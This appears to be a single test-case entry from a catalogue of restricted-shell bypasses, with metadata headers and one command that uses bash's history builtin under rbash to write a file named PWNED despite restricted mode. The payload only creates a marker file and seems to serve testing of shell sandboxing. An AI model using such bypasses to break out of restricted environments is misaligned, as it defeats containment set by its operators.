#@ id: rb-history-w
#@ about: creates PWNED (name without a slash)
#@ class: restricted-shell
#@ kind: bypass
#@ origin: https://www.gnu.org/software/bash/manual/html_node/The-Restricted-Shell.html (from general knowledge; the address was not opened)
#@ world: catalogue
#@ effect: create PWNED
#@ exit: 0
#@ body: no-final-newline
#@ ---
rbash -c 'history -s x; history -w PWNED'
